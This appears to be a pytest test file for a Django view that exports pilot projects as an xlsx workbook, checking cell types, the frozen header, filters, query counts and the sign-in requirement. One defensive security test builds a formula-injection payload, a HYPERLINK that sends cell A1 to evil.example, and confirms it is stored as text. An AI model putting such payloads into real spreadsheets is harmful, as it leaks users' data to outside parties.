"""The pilot table as a workbook: typed cells, frozen header, widths, no formula ever."""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portfolio.models import BusinessUnit, CostLine
from tests.conftest import signed_in
from tests.factories import make_pilot


def sheet_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="pilots.xlsx"' in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content))["Pilots"]


def by_header(sheet) -> dict:
    header = [cell.value for cell in sheet[1]]
    return {name: sheet.cell(row=2, column=index + 1) for index, name in enumerate(header)}


def test_it_types_dates_and_numbers_and_freezes_the_header(alice):
    # given
    make_pilot(
        title="Invoice matching",
        deployment_owner=alice,
        pilot_start=date(2026, 1, 5),
        stage_entered_on=date(2026, 1, 5),
    )

    # when
    sheet = sheet_of(signed_in(alice).get(reverse("pilots_xlsx")))

    # then
    cells = by_header(sheet)
    assert cells["pilot_start"].value.date() == date(2026, 1, 5)
    assert cells["pilot_start"].is_date
    assert cells["cost_pilot"].data_type == "n" and cells["cost_pilot"].value == 0
    assert cells["days_in_stage"].data_type == "n"
    assert cells["title"].value == "Invoice matching"
    assert cells["pilot_end_planned"].value is None
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 40


@pytest.mark.security
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_it_stores_text_that_looks_like_a_formula_as_text(alice, start):
    formula = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    unit = BusinessUnit.objects.create(name=f"{start}SUM(A1:A9)")
    make_pilot(title=formula, business_unit=unit, deployment_owner=alice)

    sheet = sheet_of(signed_in(alice).get(reverse("pilots_xlsx")))

    cells = by_header(sheet)
    assert (cells["title"].data_type, cells["title"].value) == ("s", formula)
    assert (cells["business_unit"].data_type, cells["business_unit"].value) == (
        "s",
        f"{start}SUM(A1:A9)",
    )


def test_it_keeps_the_dashboard_filters(alice):
    make_pilot(title="Fresh idea", deployment_owner=alice)
    make_pilot(title="Running", stage="piloting", deployment_owner=alice)

    sheet = sheet_of(signed_in(alice).get(reverse("pilots_xlsx"), {"stage": "piloting"}))

    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Running"]


def test_it_reads_the_pilots_in_a_number_of_queries_that_does_not_grow(
    alice, django_assert_max_num_queries
):
    for n in range(30):
        pilot = make_pilot(title=f"Pilot {n}", deployment_owner=alice)
        CostLine.objects.create(pilot=pilot, category="data", phase="pilot", amount=Decimal(n))
    client = signed_in(alice)

    with django_assert_max_num_queries(20):
        sheet = sheet_of(client.get(reverse("pilots_xlsx")))

    assert sheet.max_row == 31


def test_it_needs_a_sign_in(client):
    response = client.get(reverse("pilots_xlsx"))

    assert response.status_code == 302
